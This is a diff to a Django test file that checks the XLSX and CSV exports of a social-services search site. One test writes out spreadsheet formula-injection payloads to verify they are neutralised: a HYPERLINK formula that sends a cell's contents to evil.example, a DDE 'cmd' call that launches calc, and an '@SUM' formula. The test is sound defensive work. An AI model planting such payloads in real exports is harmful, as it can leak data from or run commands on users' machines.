@@ -1,17 +1,135 @@
-"""The machine export of a search: every result, never cut, a few at once on the whole site."""
+"""The exports of a search: the spreadsheet people open (XLSX, read back here with another library than the one
+that writes it) and the machine CSV of the contract."""
 
 import csv
+import datetime
 import io
+from urllib.parse import urlsplit
 
+import openpyxl
 import psycopg
 import pytest
+from bs4 import BeautifulSoup
+from django.core.cache import caches
 from django.db import connection
 from django.test import override_settings
 
 from core import slots
+from services import exports
+from services.exports import HEADERS
 from tests.services.factories import ServiceFactory
+from tests.structures.factories import StructureFactory
 
 pytestmark = pytest.mark.django_db
+
+
+def workbook(response) -> openpyxl.Workbook:
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content)  # read to the end, the test client closes it (and the file)
+    return openpyxl.load_workbook(io.BytesIO(content))
+
+
+def rows(sheet) -> list[dict]:
+    values = list(sheet.iter_rows(values_only=True))
+    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]
+
+
+def page_names(client, params, pages) -> list[str]:
+    names = []
+    for number in range(1, pages + 1):
+        page = BeautifulSoup(client.get("/services/", {**params, "page": number}).content.decode(), "html.parser")
+        names += [a.get_text(strip=True) for a in page.select("#services-results article h3 a")]
+    return names
+
+
+def test_the_spreadsheet_holds_labels_address_phone_hours_and_our_pages_in_the_pages_order(client, offer):
+    structure = offer[0].structure
+    structure.horaires_accueil = "Mo-Fr 09:00-12:00,14:00-17:00; Sa 09:00-12:00"
+    structure.save()
+    params = {"code_commune": "59350", "thematiques": ["mobilite", "numerique"]}
+    response = client.get("/services/export.xlsx", params)
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    today = datetime.date.today().isoformat()
+    assert response["Content-Disposition"] == f'attachment; filename="services-insertion-lille-{today}.xlsx"'
+    book = workbook(response)
+    assert book.sheetnames == ["Services", "Recherche"]
+    sheet = book["Services"]
+    assert [cell.value for cell in sheet[1]] == HEADERS
+    lines = rows(sheet)
+    assert [line["Service"] for line in lines] == page_names(client, params, 2)
+    first = lines[0]
+    assert first["Structure"] == "Centre social <b>Pagnol</b>"
+    assert first["Distance (km)"] == 0.0
+    assert first["Adresse"] == "1 rue de la République"
+    assert (first["Code postal"], first["Commune"]) == ("59000", "Lille")
+    assert first["Téléphone"] == "03 20 00 00 00"  # the structure's, as people read it
+    assert first["Horaires"] == "Lundi au vendredi : 9 h – 12 h, 14 h – 17 h ; Samedi : 9 h – 12 h"
+    assert first["Comment en bénéficier"] == "Téléphoner"
+    assert first["Besoins"] == "Acquérir un équipement"
+    assert first["Publics"] == "Tous publics"
+    assert (first["Frais"], first["Modes d'accueil"], first["Source"]) == ("Payant", "En présentiel", "DORA")
+    assert first["Fiche sur le site"] == "http://testserver/services/dora--svc-00/"
+    assert client.get(urlsplit(first["Fiche sur le site"]).path).status_code == 200
+    assert sheet["O2"].hyperlink.target == first["Fiche sur le site"]
+    assert isinstance(first["Mis à jour le"], datetime.datetime)
+    remote = lines[-1]
+    assert remote["Distance (km)"] is None and remote["Modes d'accueil"] == "À distance"
+    about = {row[0]: row[1] for row in book["Recherche"].iter_rows(values_only=True)}
+    assert about["Lieu"] == "Lille (59000), services sur place dans un rayon de 50 km"
+    assert about["Besoins"] == "Mobilité, Numérique"
+    assert about["Résultats"] == "28 services"
+    assert about["Page des résultats"].startswith("http://testserver/services/?code_commune=59350")
+
+
+def test_no_cell_of_the_spreadsheet_can_run_as_a_formula(client, lille):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    structure = StructureFactory(nom="+cmd|' /C calc'!A0", telephone="+33320000000")
+    ServiceFactory(structure=structure, nom=hostile, courriel="@SUM(1+1)")
+    line = rows(workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))["Services"])[0]
+    assert line["Service"] == "'" + hostile
+    assert line["Structure"] == "'+cmd|' /C calc'!A0"
+    assert line["Courriel"] == "'@SUM(1+1)"
+    book = workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))
+    assert all(cell.data_type != "f" for row in book["Services"].iter_rows() for cell in row)
+
+
+def test_the_spreadsheet_of_an_invalid_search_is_a_french_message(client, offer):
+    response = client.get("/services/export.xlsx", {"code_commune": "99999"})
+    assert response.status_code == 400
+    assert response.content.decode() == "Recherche invalide : Aucune commune ne porte le code « 99999 »."
+
+
+def test_the_spreadsheet_is_limited_as_the_csv(client):
+    caches["rate_limits"].clear()
+    for _ in range(300):
+        response = client.get("/services/export.xlsx")
+        assert response.status_code == 200 and b"".join(response.streaming_content)  # read: the client closes it
+    response = client.get("/services/export.xlsx", {"thematiques": "sante"})
+    assert response.status_code == 429
+    assert int(response["Retry-After"]) > 0
+
+
+def test_the_machine_csv_keeps_the_contracts_columns_and_codes(client, offer):
+    response = client.get("/services/export.csv", {"code_commune": "59350"})
+    content = b"".join(response.streaming_content).decode().lstrip("\ufeff")
+    lines = list(csv.DictReader(io.StringIO(content)))
+    assert list(lines[0]) == [
+        *("id", "nom", "structure_id", "structure_nom", "commune", "code_postal", "distance_km"),
+        *("modes_accueil", "thematiques", "telephone", "courriel", "lien_source"),
+    ]
+    assert lines[0]["thematiques"] == "numerique--acquerir-un-equipement"
+
+
+def test_the_spreadsheet_holds_the_first_results_of_a_very_large_search_and_says_so(client, offer, monkeypatch):
+    monkeypatch.setattr(exports, "MAX_SHEET_ROWS", 10)
+    book = workbook(client.get("/services/export.xlsx", {"code_commune": "59350"}))
+    assert [line["Service"] for line in rows(book["Services"])] == page_names(client, {"code_commune": "59350"}, 1)[
+        :10
+    ]
+    about = {row[0]: row[1] for row in book["Recherche"].iter_rows(values_only=True)}
+    assert about["Résultats"] == (
+        "les 10 premiers de 28 services (précisez la recherche, ou prenez les données brutes en CSV)"
+    )
 
 
 def rows_of(response) -> list[dict]:
